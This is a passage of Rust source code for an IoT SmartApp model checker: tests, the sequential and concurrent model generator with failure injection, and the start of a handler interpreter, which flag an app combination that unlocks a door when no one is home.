def installed() { subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "not present") {
        setLocationMode("Away")
    } else {
        setLocationMode("Home")
    }
}
"#;
        let unlock_door = r#"
definition(name: "Unlock Door", namespace: "st", author: "a", description: "Unlock on mode change or touch")
preferences { section("s") { input "lock1", "capability.lock" } }
def installed() {
    subscribe(app, "touch", appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) { lock1.unlock() }
def changedLocationMode(evt) { lock1.unlock() }
"#;
        let apps = vec![
            lower_app(&SmartApp::parse(auto_mode).unwrap()).unwrap(),
            lower_app(&SmartApp::parse(unlock_door).unwrap()).unwrap(),
        ];
        let config = SystemConfig::new()
            .with_device(DeviceConfig::new("alicePresence", "presenceSensor", ""))
            .with_device(DeviceConfig::new("doorLock", "lock", "main door lock"))
            .with_app(
                AppConfig::new("Auto Mode Change")
                    .with("people", Binding::Devices(vec!["alicePresence".into()])),
            )
            .with_app(
                AppConfig::new("Unlock Door")
                    .with("lock1", Binding::Devices(vec!["doorLock".into()])),
            );
        InstalledSystem::new(apps, config)
    }

    #[test]
    fn sequential_model_finds_unlock_door_violation() {
        let model = SequentialModel::new(
            unlock_door_system(),
            PropertySet::all(),
            ModelOptions::with_events(2),
        );
        let report = Checker::new(SearchConfig::with_depth(2)).verify(&model);
        assert!(report.has_violations());
        // "The main door should be locked when no one is at home" must be
        // among the violated properties, with a counterexample that starts
        // from the presence sensor reporting "not present".
        let found = report
            .violations
            .iter()
            .find(|v| {
                v.violation
                    .description
                    .contains("main door should be locked when no one is at home")
            })
            .expect("expected the unlock-door violation");
        assert!(found.trace.events().iter().any(|e| e.contains("not present")));
        let rendered = found.trace.render(&found.violation);
        assert!(rendered.contains("assertion violated"));
        assert!(rendered.contains("doorLock.unlock"));
        // Handler log lines carry structured provenance for the Output
        // Analyzer.
        assert!(found
            .trace
            .steps
            .iter()
            .flat_map(|s| &s.log)
            .any(|l| l.owner.as_deref() == Some("Unlock Door")));
    }

    #[test]
    fn single_event_suffices_for_the_mode_chain() {
        // The cascade presence → mode change → unlock happens within one
        // external event in the sequential design.
        let model = SequentialModel::new(
            unlock_door_system(),
            PropertySet::all(),
            ModelOptions::with_events(1),
        );
        let report = Checker::new(SearchConfig::with_depth(1)).verify(&model);
        assert!(report.has_violations());
        let violation = &report.violations[0];
        assert_eq!(violation.depth, 1);
    }

    #[test]
    fn concurrent_model_finds_the_same_violation() {
        let system = unlock_door_system();
        let model = ConcurrentModel::new(system, PropertySet::all(), ModelOptions::with_events(1));
        let depth = model.suggested_depth();
        let report = Checker::new(SearchConfig::with_depth(depth)).verify(&model);
        assert!(report.has_violations());
        assert!(report
            .violations
            .iter()
            .any(|v| v.violation.description.contains("main door should be locked")));
    }

    #[test]
    fn concurrent_model_explores_more_states_than_sequential() {
        let system = unlock_door_system();
        let seq =
            SequentialModel::new(system.clone(), PropertySet::all(), ModelOptions::with_events(2));
        let seq_report = Checker::new(SearchConfig::with_depth(2)).verify(&seq);
        let conc = ConcurrentModel::new(system, PropertySet::all(), ModelOptions::with_events(2));
        let conc_report =
            Checker::new(SearchConfig::with_depth(conc.suggested_depth())).verify(&conc);
        assert!(
            conc_report.stats.states_stored > seq_report.stats.states_stored,
            "concurrent {} <= sequential {}",
            conc_report.stats.states_stored,
            seq_report.stats.states_stored
        );
    }

    #[test]
    fn failure_policy_enumerates_more_actions() {
        let system = unlock_door_system();
        let no_failures =
            SequentialModel::new(system.clone(), PropertySet::all(), ModelOptions::with_events(1));
        let with_failures = SequentialModel::new(
            system,
            PropertySet::all(),
            ModelOptions::with_events(1).with_failures(),
        );
        let state = no_failures.initial_state();
        let (mut a, mut b) = (Vec::new(), Vec::new());
        no_failures.actions(&state, &mut a);
        with_failures.actions(&state, &mut b);
        assert!(b.len() > a.len());
    }

    #[test]
    fn actions_stop_at_event_bound() {
        let model = SequentialModel::new(
            unlock_door_system(),
            PropertySet::all(),
            ModelOptions::with_events(1),
        );
        let mut state = model.initial_state();
        state.external_events = 1;
        let mut actions = vec![ExternalAction::AppTouch { app: 0 }];
        model.actions(&state, &mut actions);
        assert!(actions.is_empty());
    }

    #[test]
    fn no_op_sensor_events_are_not_offered() {
        let model = SequentialModel::new(
            unlock_door_system(),
            PropertySet::all(),
            ModelOptions::with_events(1),
        );
        let state = model.initial_state();
        // The presence sensor starts "present"; only "not present" (plus the
        // app-touch action) should be offered, never a redundant "present".
        let mut actions = Vec::new();
        model.actions(&state, &mut actions);
        assert!(actions.iter().all(|a| match a {
            ExternalAction::SensorEvent { .. } => !model.display_action(a).contains("=present "),
            _ => true,
        }));
    }

    #[test]
    fn action_display_matches_the_old_format() {
        let model = SequentialModel::new(
            unlock_door_system(),
            PropertySet::all(),
            ModelOptions::with_events(1),
        );
        let state = model.initial_state();
        let mut actions = Vec::new();
        model.actions(&state, &mut actions);
        let displays: Vec<String> = actions.iter().map(|a| model.display_action(a)).collect();
        assert!(
            displays.iter().any(|d| d == "alicePresence/presence=not present [ok]"),
            "displays: {displays:?}"
        );
        assert!(displays.iter().any(|d| d == "app/touch -> Unlock Door"));
    }
}
