//! The Model Generator (§8): builds transition systems the checker explores.
//!
//! [`SequentialModel`] implements Algorithm 1's sequential design: each
//! transition is one external physical event (plus an optional injected
//! failure), and the entire cascade of handler executions and internal events
//! it triggers is dispatched atomically within that transition.  This is the
//! "weak concurrency" the paper adopts because it discovered all violations
//! the strict model found at a fraction of the cost (Table 7b).
//!
//! [`ConcurrentModel`] implements the strict-concurrency design used for the
//! comparison: external events only *enqueue* cyber events, and the order in
//! which pending events are dispatched is itself a non-deterministic choice,
//! so the checker explores all interleavings of internal and external events.

use crate::interp::{run_handler, DispatchedEvent};
use crate::system::{InstalledSystem, InternalEvent, SystemState};
use iotsan_checker::{StepOutcome, TransitionSystem, Violation};
use iotsan_devices::{DeviceId, FailureMode, FailurePolicy};
use iotsan_ir::{Trigger, Value};
use iotsan_properties::{PropertyId, PropertySet, StepObservation};
use std::fmt;

/// Options controlling model construction.
#[derive(Debug, Clone, PartialEq)]
pub struct ModelOptions {
    /// Maximum number of external events (the verification depth bound).
    pub max_events: usize,
    /// Which device/communication failures to inject.
    pub failure_policy: FailurePolicy,
    /// Upper bound on the number of internal events dispatched per external
    /// event (guards against event cycles between apps).
    pub max_cascade: usize,
}

impl Default for ModelOptions {
    fn default() -> Self {
        ModelOptions { max_events: 3, failure_policy: FailurePolicy::None, max_cascade: 32 }
    }
}

impl ModelOptions {
    /// A model exploring up to `max_events` external events.
    pub fn with_events(max_events: usize) -> Self {
        ModelOptions { max_events, ..Default::default() }
    }

    /// Enables exhaustive failure injection.
    pub fn with_failures(mut self) -> Self {
        self.failure_policy = FailurePolicy::Exhaustive;
        self
    }
}

/// One external event choice (the checker's action alphabet).
#[derive(Debug, Clone, PartialEq)]
pub enum ExternalAction {
    /// The physical environment changes a sensor attribute.
    SensorEvent {
        /// The sensor device.
        device: DeviceId,
        /// Its label (for display).
        label: String,
        /// The attribute that changes.
        attribute: String,
        /// The index of the new value in the attribute's domain.
        value_index: usize,
        /// Rendered new value (for display and dispatch).
        value: String,
        /// The injected failure mode for this step.
        failure: FailureMode,
    },
    /// The user taps an app in the companion app.
    AppTouch {
        /// Index of the app.
        app: usize,
        /// App name (for display).
        name: String,
    },
    /// A scheduled timer fires for a specific handler.
    TimerFire {
        /// Index of the app.
        app: usize,
        /// Handler name.
        handler: String,
    },
    /// A location environment event (sunrise / sunset).
    LocationEvent {
        /// Event name.
        name: String,
    },
}

impl fmt::Display for ExternalAction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ExternalAction::SensorEvent { label, attribute, value, failure, .. } => {
                write!(f, "{label}/{attribute}={value} [{failure}]")
            }
            ExternalAction::AppTouch { name, .. } => write!(f, "app/touch -> {name}"),
            ExternalAction::TimerFire { handler, .. } => write!(f, "timer -> {handler}"),
            ExternalAction::LocationEvent { name } => write!(f, "location/{name}"),
        }
    }
}

/// Shared model core used by both designs.
#[derive(Debug, Clone)]
struct ModelCore {
    system: InstalledSystem,
    properties: PropertySet,
    options: ModelOptions,
}

impl ModelCore {
    /// External actions available when fewer than `max_events` have happened.
    fn external_actions(&self, state: &SystemState) -> Vec<ExternalAction> {
        if state.external_events >= self.options.max_events {
            return Vec::new();
        }
        let mut actions = Vec::new();
        for device in &self.system.devices {
            if !device.is_sensor() {
                continue;
            }
            let spec = device.spec();
            for (attribute, value_index) in spec.environment_events() {
                let attr_index = spec.attribute_index(attribute).expect("attribute exists");
                // Skip events that would not change the sensor state
                // (Algorithm 1 only acts when evt != current state).
                if state.devices[device.id.0 as usize].raw(attr_index) == Some(value_index as u8) {
                    continue;
                }
                let value = spec
                    .attribute(attribute)
                    .and_then(|a| a.domain.value_at(value_index))
                    .unwrap_or_default();
                for failure in self.options.failure_policy.modes_for(device.id) {
                    actions.push(ExternalAction::SensorEvent {
                        device: device.id,
                        label: device.label.clone(),
                        attribute: attribute.to_string(),
                        value_index,
                        value: value.clone(),
                        failure,
                    });
                }
            }
        }
        for (app_index, app) in self.system.apps.iter().enumerate() {
            if app.handlers.iter().any(|h| matches!(h.trigger, Trigger::AppTouch)) {
                actions.push(ExternalAction::AppTouch { app: app_index, name: app.name.clone() });
            }
            for handler in &app.handlers {
                if matches!(handler.trigger, Trigger::Timer { .. }) {
                    actions.push(ExternalAction::TimerFire {
                        app: app_index,
                        handler: handler.name.clone(),
                    });
                }
            }
            for handler in &app.handlers {
                if let Trigger::LocationEvent { name } = &handler.trigger {
                    let action = ExternalAction::LocationEvent { name: name.clone() };
                    if !actions.contains(&action) {
                        actions.push(action);
                    }
                }
            }
        }
        actions
    }

    /// Applies the external action to `state`, returning the initial internal
    /// events to dispatch plus log lines, and updating the observation.
    fn apply_external(
        &self,
        state: &mut SystemState,
        action: &ExternalAction,
        observation: &mut StepObservation,
        log: &mut Vec<String>,
    ) -> Vec<InternalEvent> {
        state.external_events += 1;
        state.time.tick();
        let mut events = Vec::new();
        match action {
            ExternalAction::SensorEvent {
                device,
                label,
                attribute,
                value_index,
                value,
                failure,
            } => {
                let spec = self.system.device(*device).spec();
                match failure {
                    FailureMode::DeviceOffline => {
                        state.devices[device.0 as usize].set_online(false);
                        log.push(format!("{label} is OFFLINE; event {attribute}={value} missed"));
                    }
                    FailureMode::CommunicationLost => {
                        // Communication between the hub/cloud and the devices
                        // is down (e.g. jamming): the sensor reading is still
                        // observed, but commands sent to actuators during this
                        // step are lost — see `inject_command_failure` below.
                        let changed = state.devices[device.0 as usize].set_index(
                            spec,
                            attribute,
                            *value_index,
                        );
                        log.push(format!(
                            "{label}.{attribute} = {value} (actuator communication DOWN)"
                        ));
                        if changed {
                            events.push(InternalEvent {
                                device: Some(*device),
                                attribute: attribute.clone(),
                                value: parse_value(value),
                                physical: true,
                            });
                        }
                    }
                    FailureMode::None => {
                        let changed = state.devices[device.0 as usize].set_index(
                            spec,
                            attribute,
                            *value_index,
                        );
                        log.push(format!("generatedEvent.evtType = {}", value.replace(' ', "")));
                        if changed {
                            events.push(InternalEvent {
                                device: Some(*device),
                                attribute: attribute.clone(),
                                value: parse_value(value),
                                physical: true,
                            });
                        }
                    }
                }
            }
            ExternalAction::AppTouch { app, name } => {
                log.push(format!("app touch: {name}"));
                let touch = DispatchedEvent {
                    device: None,
                    attribute: "touch".into(),
                    value: Value::Str("touched".into()),
                };
                let handlers: Vec<_> = self.system.apps[*app]
                    .handlers
                    .iter()
                    .filter(|h| matches!(h.trigger, Trigger::AppTouch))
                    .cloned()
                    .collect();
                for handler in handlers {
                    let effects = run_handler(
                        &self.system,
                        *app,
                        &handler,
                        &touch,
                        state,
                        observation,
                        false,
                    );
                    log.extend(effects.log);
                    events.extend(effects.new_events);
                }
            }
            ExternalAction::TimerFire { app, handler } => {
                log.push(format!("timer fired: {handler}"));
                let tick = DispatchedEvent {
                    device: None,
                    attribute: "time".into(),
                    value: Value::Int(state.time.seconds() as i64),
                };
                let handlers: Vec<_> = self.system.apps[*app]
                    .handlers
                    .iter()
                    .filter(|h| h.name == *handler && matches!(h.trigger, Trigger::Timer { .. }))
                    .cloned()
                    .collect();
                for handler in handlers {
                    let effects =
                        run_handler(&self.system, *app, &handler, &tick, state, observation, false);
                    log.extend(effects.log);
                    events.extend(effects.new_events);
                }
            }
            ExternalAction::LocationEvent { name } => {
                log.push(format!("location event: {name}"));
                events.push(InternalEvent {
                    device: None,
                    attribute: name.clone(),
                    value: Value::Str(name.clone()),
                    physical: true,
                });
            }
        }
        events
    }

    /// True when `handler` of `app_index` subscribes to `event`.
    fn subscribes(
        &self,
        app_index: usize,
        handler: &iotsan_ir::IrHandler,
        event: &InternalEvent,
    ) -> bool {
        match &handler.trigger {
            Trigger::Device { input, attribute, value } => {
                if *attribute != event.attribute {
                    return false;
                }
                if let Some(expected) = value {
                    if !event.value.loosely_equals(&Value::Str(expected.clone())) {
                        return false;
                    }
                }
                match event.device {
                    Some(device) => self
                        .system
                        .bound_devices(&self.system.apps[app_index].name, input)
                        .contains(&device),
                    // A device-less event (e.g. a fake `sendEvent`) reaches any
                    // subscriber of that attribute.
                    None => true,
                }
            }
            Trigger::LocationMode { value } => {
                event.attribute == "mode"
                    && value
                        .as_ref()
                        .map(|v| event.value.loosely_equals(&Value::Str(v.clone())))
                        .unwrap_or(true)
            }
            Trigger::LocationEvent { name } => event.attribute == *name,
            Trigger::AppTouch | Trigger::Timer { .. } => false,
        }
    }

    /// Dispatches one event to every subscribed handler (Algorithm 1's
    /// `dispatch_event`), returning the newly generated events.
    fn dispatch_one(
        &self,
        state: &mut SystemState,
        event: &InternalEvent,
        observation: &mut StepObservation,
        log: &mut Vec<String>,
        commands_fail: bool,
    ) -> Vec<InternalEvent> {
        let mut new_events = Vec::new();
        let dispatched = DispatchedEvent::from_internal(event);
        for app_index in 0..self.system.apps.len() {
            let handlers: Vec<_> = self.system.apps[app_index]
                .handlers
                .iter()
                .filter(|h| self.subscribes(app_index, h, event))
                .cloned()
                .collect();
            for handler in handlers {
                let effects = run_handler(
                    &self.system,
                    app_index,
                    &handler,
                    &dispatched,
                    state,
                    observation,
                    commands_fail,
                );
                log.extend(effects.log);
                new_events.extend(effects.new_events);
            }
        }
        new_events
    }

    /// Dispatches a whole cascade to quiescence (sequential design).
    fn dispatch_cascade(
        &self,
        state: &mut SystemState,
        initial: Vec<InternalEvent>,
        observation: &mut StepObservation,
        log: &mut Vec<String>,
        commands_fail: bool,
    ) {
        let mut queue = initial;
        let mut dispatched = 0usize;
        while let Some(event) = if queue.is_empty() { None } else { Some(queue.remove(0)) } {
            if dispatched >= self.options.max_cascade {
                log.push("cascade bound reached; remaining events dropped".into());
                break;
            }
            dispatched += 1;
            let new_events = self.dispatch_one(state, &event, observation, log, commands_fail);
            queue.extend(new_events);
        }
    }

    /// True when the action models a hub ↔ actuator communication failure, in
    /// which case every command sent while handling it is lost.
    fn commands_fail(action: &ExternalAction) -> bool {
        matches!(
            action,
            ExternalAction::SensorEvent { failure: FailureMode::CommunicationLost, .. }
        )
    }

    /// Evaluates all properties after a step.
    fn check(&self, state: &SystemState, observation: &StepObservation) -> Vec<Violation> {
        let snapshot = self.system.snapshot(state);
        let mut violated: Vec<PropertyId> = self.properties.check_snapshot(&snapshot);
        violated.extend(self.properties.check_step(observation));
        violated.sort();
        violated.dedup();
        violated
            .into_iter()
            .filter_map(|id| {
                self.properties
                    .get(id)
                    .map(|p| Violation { property: id.0, description: p.name.clone() })
            })
            .collect()
    }

    fn new_observation(&self) -> StepObservation {
        StepObservation {
            configured_recipients: self.system.config.phone_numbers.clone(),
            ..Default::default()
        }
    }
}

fn parse_value(text: &str) -> Value {
    if let Ok(i) = text.parse::<i64>() {
        Value::Int(i)
    } else if let Ok(d) = text.parse::<f64>() {
        Value::Decimal(d)
    } else {
        Value::Str(text.to_string())
    }
}

/// The sequential-design transition system (the paper's preferred model).
#[derive(Debug, Clone)]
pub struct SequentialModel {
    core: ModelCore,
}

impl SequentialModel {
    /// Builds a sequential model.
    pub fn new(system: InstalledSystem, properties: PropertySet, options: ModelOptions) -> Self {
        SequentialModel { core: ModelCore { system, properties, options } }
    }

    /// The installed system under verification.
    pub fn system(&self) -> &InstalledSystem {
        &self.core.system
    }

    /// The options the model was built with.
    pub fn options(&self) -> &ModelOptions {
        &self.core.options
    }
}

impl TransitionSystem for SequentialModel {
    type State = SystemState;
    type Action = ExternalAction;

    fn initial_state(&self) -> SystemState {
        self.core.system.initial_state()
    }

    fn actions(&self, state: &SystemState) -> Vec<ExternalAction> {
        self.core.external_actions(state)
    }

    fn apply(&self, state: &SystemState, action: &ExternalAction) -> StepOutcome<SystemState> {
        let mut next = state.clone();
        let mut observation = self.core.new_observation();
        let mut log = Vec::new();
        let commands_fail = ModelCore::commands_fail(action);
        let initial = self.core.apply_external(&mut next, action, &mut observation, &mut log);
        self.core.dispatch_cascade(&mut next, initial, &mut observation, &mut log, commands_fail);
        let violations = self.core.check(&next, &observation);
        StepOutcome { state: next, violations, log }
    }

    fn encode(&self, state: &SystemState, out: &mut Vec<u8>) {
        state.encode_into(out);
    }
}

/// One step of the strict-concurrency design: either generate an external
/// event (which only enqueues its cyber event) or dispatch one pending event.
#[derive(Debug, Clone, PartialEq)]
pub enum ConcurrentAction {
    /// Generate an external event.
    External(ExternalAction),
    /// Dispatch the pending event at the given queue index.
    Dispatch {
        /// Index into the pending-event queue.
        index: usize,
    },
}

impl fmt::Display for ConcurrentAction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ConcurrentAction::External(a) => write!(f, "{a}"),
            ConcurrentAction::Dispatch { index } => write!(f, "dispatch pending[{index}]"),
        }
    }
}

/// The strict-concurrency transition system (used for the Table 7b
/// comparison; interleavings of internal and external events are explored).
#[derive(Debug, Clone)]
pub struct ConcurrentModel {
    core: ModelCore,
}

impl ConcurrentModel {
    /// Builds a concurrent model.
    pub fn new(system: InstalledSystem, properties: PropertySet, options: ModelOptions) -> Self {
        ConcurrentModel { core: ModelCore { system, properties, options } }
    }

    /// A search depth sufficient to drain every cascade the model can create.
    pub fn suggested_depth(&self) -> usize {
        self.core.options.max_events * (self.core.options.max_cascade + 1)
    }
}

impl TransitionSystem for ConcurrentModel {
    type State = SystemState;
    type Action = ConcurrentAction;

    fn initial_state(&self) -> SystemState {
        self.core.system.initial_state()
    }

    fn actions(&self, state: &SystemState) -> Vec<ConcurrentAction> {
        let mut actions: Vec<ConcurrentAction> =
            self.core.external_actions(state).into_iter().map(ConcurrentAction::External).collect();
        for index in 0..state.pending.len() {
            actions.push(ConcurrentAction::Dispatch { index });
        }
        actions
    }

    fn apply(&self, state: &SystemState, action: &ConcurrentAction) -> StepOutcome<SystemState> {
        let mut next = state.clone();
        let mut observation = self.core.new_observation();
        let mut log = Vec::new();
        match action {
            ConcurrentAction::External(external) => {
                let events =
                    self.core.apply_external(&mut next, external, &mut observation, &mut log);
                next.pending.extend(events);
            }
            ConcurrentAction::Dispatch { index } => {
                if *index < next.pending.len() {
                    let event = next.pending.remove(*index);
                    log.push(format!("dispatch {event}"));
                    if next.pending.len() < self.core.options.max_cascade {
                        let new_events = self.core.dispatch_one(
                            &mut next,
                            &event,
                            &mut observation,
                            &mut log,
                            false,
                        );
                        next.pending.extend(new_events);
                    }
                }
            }
        }
        // Physical-state invariants are evaluated at quiescent points (no
        // events pending), so the strict-concurrent design checks the same
        // observable states as the sequential one; step-level observations
        // (conflicting commands, leakage) are checked on every action.
        let violations = if next.pending.is_empty() {
            self.core.check(&next, &observation)
        } else {
            let mut violated = self.core.properties.check_step(&observation);
            violated.sort();
            violated.dedup();
            violated
                .into_iter()
                .filter_map(|id| {
                    self.core
                        .properties
                        .get(id)
                        .map(|p| Violation { property: id.0, description: p.name.clone() })
                })
                .collect()
        };
        StepOutcome { state: next, violations, log }
    }

    fn encode(&self, state: &SystemState, out: &mut Vec<u8>) {
        state.encode_into(out);
        out.push(state.external_events as u8);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_checker::{Checker, SearchConfig};
    use iotsan_config::{AppConfig, Binding, DeviceConfig, SystemConfig};
    use iotsan_groovy::SmartApp;
    use iotsan_ir::lower_app;

    /// Auto Mode Change + Unlock Door — the running example of the paper
    /// (Figure 7): leaving home switches the mode to Away, which unlocks the
    /// front door, violating "the main door should be locked when no one is
    /// at home".
    fn unlock_door_system() -> InstalledSystem {
        let auto_mode = r#"
definition(name: "Auto Mode Change", namespace: "st", author: "a", description: "Change mode on presence")
preferences { section("s") { input "people", "capability.presenceSensor", multiple: true } }
def installed() { subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "not present") {
        setLocationMode("Away")
    } else {
        setLocationMode("Home")
    }
}
"#;
        let unlock_door = r#"
definition(name: "Unlock Door", namespace: "st", author: "a", description: "Unlock on mode change or touch")
preferences { section("s") { input "lock1", "capability.lock" } }
def installed() {
    subscribe(app, "touch", appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) { lock1.unlock() }
def changedLocationMode(evt) { lock1.unlock() }
"#;
        let apps = vec![
            lower_app(&SmartApp::parse(auto_mode).unwrap()).unwrap(),
            lower_app(&SmartApp::parse(unlock_door).unwrap()).unwrap(),
        ];
        let config = SystemConfig::new()
            .with_device(DeviceConfig::new("alicePresence", "presenceSensor", ""))
            .with_device(DeviceConfig::new("doorLock", "lock", "main door lock"))
            .with_app(
                AppConfig::new("Auto Mode Change")
                    .with("people", Binding::Devices(vec!["alicePresence".into()])),
            )
            .with_app(
                AppConfig::new("Unlock Door")
                    .with("lock1", Binding::Devices(vec!["doorLock".into()])),
            );
        InstalledSystem::new(apps, config)
    }

    #[test]
    fn sequential_model_finds_unlock_door_violation() {
        let model = SequentialModel::new(
            unlock_door_system(),
            PropertySet::all(),
            ModelOptions::with_events(2),
        );
        let report = Checker::new(SearchConfig::with_depth(2)).verify(&model);
        assert!(report.has_violations());
        // "The main door should be locked when no one is at home" must be
        // among the violated properties, with a counterexample that starts
        // from the presence sensor reporting "not present".
        let found = report
            .violations
            .iter()
            .find(|v| {
                v.violation
                    .description
                    .contains("main door should be locked when no one is at home")
            })
            .expect("expected the unlock-door violation");
        assert!(found.trace.events().iter().any(|e| e.contains("not present")));
        let rendered = found.trace.render(&found.violation);
        assert!(rendered.contains("assertion violated"));
        assert!(rendered.contains("doorLock.unlock"));
    }

    #[test]
    fn single_event_suffices_for_the_mode_chain() {
        // The cascade presence → mode change → unlock happens within one
        // external event in the sequential design.
        let model = SequentialModel::new(
            unlock_door_system(),
            PropertySet::all(),
            ModelOptions::with_events(1),
        );
        let report = Checker::new(SearchConfig::with_depth(1)).verify(&model);
        assert!(report.has_violations());
        let violation = &report.violations[0];
        assert_eq!(violation.depth, 1);
    }

    #[test]
    fn concurrent_model_finds_the_same_violation() {
        let system = unlock_door_system();
        let model = ConcurrentModel::new(system, PropertySet::all(), ModelOptions::with_events(1));
        let depth = model.suggested_depth();
        let report = Checker::new(SearchConfig::with_depth(depth)).verify(&model);
        assert!(report.has_violations());
        assert!(report
            .violations
            .iter()
            .any(|v| v.violation.description.contains("main door should be locked")));
    }

    #[test]
    fn concurrent_model_explores_more_states_than_sequential() {
        let system = unlock_door_system();
        let seq =
            SequentialModel::new(system.clone(), PropertySet::all(), ModelOptions::with_events(2));
        let seq_report = Checker::new(SearchConfig::with_depth(2)).verify(&seq);
        let conc = ConcurrentModel::new(system, PropertySet::all(), ModelOptions::with_events(2));
        let conc_report =
            Checker::new(SearchConfig::with_depth(conc.suggested_depth())).verify(&conc);
        assert!(
            conc_report.stats.states_stored > seq_report.stats.states_stored,
            "concurrent {} <= sequential {}",
            conc_report.stats.states_stored,
            seq_report.stats.states_stored
        );
    }

    #[test]
    fn failure_policy_enumerates_more_actions() {
        let system = unlock_door_system();
        let no_failures =
            SequentialModel::new(system.clone(), PropertySet::all(), ModelOptions::with_events(1));
        let with_failures = SequentialModel::new(
            system,
            PropertySet::all(),
            ModelOptions::with_events(1).with_failures(),
        );
        let state = no_failures.initial_state();
        assert!(with_failures.actions(&state).len() > no_failures.actions(&state).len());
    }

    #[test]
    fn actions_stop_at_event_bound() {
        let model = SequentialModel::new(
            unlock_door_system(),
            PropertySet::all(),
            ModelOptions::with_events(1),
        );
        let mut state = model.initial_state();
        state.external_events = 1;
        assert!(model.actions(&state).is_empty());
    }

    #[test]
    fn no_op_sensor_events_are_not_offered() {
        let model = SequentialModel::new(
            unlock_door_system(),
            PropertySet::all(),
            ModelOptions::with_events(1),
        );
        let state = model.initial_state();
        // The presence sensor starts "present"; only "not present" (plus the
        // app-touch action) should be offered, never a redundant "present".
        let actions = model.actions(&state);
        assert!(actions.iter().all(|a| match a {
            ExternalAction::SensorEvent { value, .. } => value != "present",
            _ => true,
        }));
    }
}
