//! The IR interpreter — Algorithm 1's `app_event_handler`.
//!
//! When the model checker dispatches an event to a subscribed handler, this
//! interpreter executes the handler's IR body against the current
//! [`SystemState`]: it evaluates guards over device attributes, settings and
//! the event payload, sends commands to the actuators bound by the
//! configuration, records messages/network calls/fake events for the
//! step-based properties, and emits the internal events that cascade to other
//! apps (actuator state changes and location-mode changes).
//!
//! The interpreter is hot-loop code: generated events go into a caller-owned
//! buffer, and log output is *deferred* — structured [`LogEvent`]s pushed
//! through a [`StepLog`] that is disabled during search, so no log string (or
//! even event) is ever built unless a counterexample is being materialized.

use crate::logevent::LogEvent;
use crate::system::{InstalledSystem, InternalEvent, SystemState};
use iotsan_checker::StepLog;
use iotsan_devices::{CommandOutcome, DeviceId, LocationMode};
use iotsan_ir::{EventField, IrBinOp, IrExpr, IrHandler, IrStmt, Quantifier, Sym, Value};
use iotsan_properties::{
    CommandRecord, FakeEventRecord, MessageChannel, MessageRecord, NetworkRecord, StepObservation,
};
use std::collections::BTreeMap;

/// Upper bound on `while` loop iterations (keeps handler execution finite).
const MAX_LOOP_ITERATIONS: usize = 16;

/// The event being dispatched to a handler.
#[derive(Debug, Clone, PartialEq)]
pub struct DispatchedEvent {
    /// Source device, if any.
    pub device: Option<DeviceId>,
    /// Interned attribute name.
    pub attribute: Sym,
    /// Event value.
    pub value: Value,
}

impl DispatchedEvent {
    /// Builds a dispatched event from an internal event.
    pub fn from_internal(event: &InternalEvent) -> Self {
        DispatchedEvent {
            device: event.device,
            attribute: event.attribute,
            value: event.value.clone(),
        }
    }
}

/// Executes `handler` of `app_index` against `state`, recording observations
/// into `observation`, appending generated cyber events to `events_out` and
/// deferred log events to `log`.
///
/// `inject_command_failure` models an actuator/communication failure for every
/// command sent during this execution (§8's actuator-offline enumeration).
#[allow(clippy::too_many_arguments)]
pub fn run_handler(
    system: &InstalledSystem,
    app_index: usize,
    handler: &IrHandler,
    event: &DispatchedEvent,
    state: &mut SystemState,
    observation: &mut StepObservation,
    inject_command_failure: bool,
    events_out: &mut Vec<InternalEvent>,
    log: &mut StepLog<LogEvent>,
) {
    let mut interp = Interpreter {
        system,
        app_index,
        handler,
        event,
        state,
        observation,
        inject_command_failure,
        locals: BTreeMap::new(),
        iteration_overrides: Vec::new(),
        events_out,
        log,
    };
    interp.log.push(|| LogEvent::HandlerStart {
        app: app_index as u32,
        handler: handler.name.clone(),
        attribute: event.attribute,
        value: event.value.clone(),
    });
    interp.exec_block(&handler.body);
}

/// Control flow result of executing a statement list.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Flow {
    Continue,
    Return,
}

struct Interpreter<'a> {
    system: &'a InstalledSystem,
    app_index: usize,
    handler: &'a IrHandler,
    event: &'a DispatchedEvent,
    state: &'a mut SystemState,
    observation: &'a mut StepObservation,
    inject_command_failure: bool,
    locals: BTreeMap<String, Value>,
    /// While executing `devices.each { ... }`, `(input, device)` pairs that
    /// narrow the binding of `input` to the current iteration device.
    iteration_overrides: Vec<(String, DeviceId)>,
    events_out: &'a mut Vec<InternalEvent>,
    log: &'a mut StepLog<LogEvent>,
}

/// The devices an input resolves to: a borrow of the installation-time
/// binding, or the single device of an active `devices.each` iteration —
/// either way, no allocation.
enum Bound<'a> {
    Slice(&'a [DeviceId]),
    One([DeviceId; 1]),
}

impl Bound<'_> {
    fn as_slice(&self) -> &[DeviceId] {
        match self {
            Bound::Slice(s) => s,
            Bound::One(one) => one,
        }
    }
}

/// Inline capacity of a [`DeviceBuf`] (largest realistic multi-device
/// binding; the standard household has ~20 devices total).
const INLINE_DEVICES: usize = 16;

/// A by-value snapshot of a resolved device binding, so statement loops can
/// release the `&self` borrow of [`Interpreter::bound_devices`] and call
/// `&mut self` methods per device — resolved once per statement, without
/// heap allocation for realistic binding sizes.
enum DeviceBuf {
    Inline([DeviceId; INLINE_DEVICES], usize),
    Heap(Vec<DeviceId>),
}

impl DeviceBuf {
    fn from_slice(devices: &[DeviceId]) -> Self {
        if devices.len() <= INLINE_DEVICES {
            let mut inline = [DeviceId(0); INLINE_DEVICES];
            inline[..devices.len()].copy_from_slice(devices);
            DeviceBuf::Inline(inline, devices.len())
        } else {
            DeviceBuf::Heap(devices.to_vec())
        }
    }

    fn as_slice(&self) -> &[DeviceId] {
        match self {
            DeviceBuf::Inline(inline, len) => &inline[..*len],
            DeviceBuf::Heap(devices) => devices,
        }
    }
}

impl<'a> Interpreter<'a> {
    fn app_name(&self) -> &str {
        &self.system.apps[self.app_index].name
    }

    fn bound_devices(&self, input: &str) -> Bound<'_> {
        if let Some((_, device)) = self.iteration_overrides.iter().rev().find(|(i, _)| i == input) {
            return Bound::One([*device]);
        }
        Bound::Slice(self.system.bound_slice(self.app_index, input))
    }

    // ---- execution -------------------------------------------------------

